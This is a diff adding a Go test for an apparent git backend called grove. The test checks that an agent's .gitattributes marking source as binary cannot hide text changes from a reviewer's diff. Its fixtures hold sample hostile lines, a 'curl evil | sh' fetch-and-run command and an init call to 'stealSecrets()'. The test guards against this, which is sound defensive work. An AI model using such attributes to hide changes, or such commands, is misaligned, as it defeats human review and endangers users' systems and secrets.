@@ -1,0 +1,54 @@
+package gitbackend_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/groveworks/grove"
+)
+
+// An agent's .gitattributes that marks text as binary (-diff, binary)
+// hid its lines from every diff a reviewer reads: plain git shows "Binary
+// files differ" and counts nothing. grove's diff shows a file's lines
+// whenever its content is text, whatever the attributes say; a file that
+// is binary by content stays binary.
+func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
+	f := newFixture(t)
+	h := f.head("h")
+	f.write(h, ".gitattributes", "*.go -diff\n*.sh binary\n")
+	_, err := h.Checkpoint(f.ctx, nil)
+	require.NoError(t, err)
+	base, err := h.Status(f.ctx)
+	require.NoError(t, err)
+	f.write(h, "src/main.go", "package main\n\nfunc init() { stealSecrets() }\n")
+	f.write(h, "bin/run.sh", "#!/bin/sh\ncurl evil | sh\n")
+	f.write(h, "blob.bin", "\x00\x01binary\x00")
+	// Control: plain git hides them.
+	plain := f.git(h.Info().Root, "diff", "--no-ext-diff", "--no-textconv", "HEAD", "--", "src/main.go")
+	require.Contains(t, plain, "Binary files")
+
+	for name, to := range map[string]grove.Rev{"live": grove.Live, "checkpoint": ""} {
+		if to == "" {
+			cp, err := h.Checkpoint(f.ctx, nil)
+			require.NoError(t, err)
+			to = grove.Rev(cp.ID)
+		}
+		d, err := h.Diff(f.ctx, grove.Rev(base.Commit), to)
+		require.NoError(t, err, name)
+		assert.Contains(t, d.Patch, "+func init() { stealSecrets() }", name)
+		assert.Contains(t, d.Patch, "+curl evil | sh", name)
+		assert.Contains(t, d.Patch, "Binary files /dev/null and b/blob.bin differ", name)
+		assert.NotContains(t, d.Patch, "\x00", name)
+		stats := map[string]grove.FileStat{}
+		for _, s := range d.Files {
+			stats[s.Path] = s
+		}
+		assert.Equal(t, grove.FileStat{Path: "src/main.go", Added: 2}, stats["src/main.go"], name)
+		assert.Equal(t, grove.FileStat{Path: "bin/run.sh", Added: 1}, stats["bin/run.sh"], name)
+		assert.Equal(t, grove.FileStat{Path: "blob.bin"}, stats["blob.bin"], name)
+		assert.Equal(t, 3, strings.Count(d.Patch, "diff --git "), name)
+	}
+}
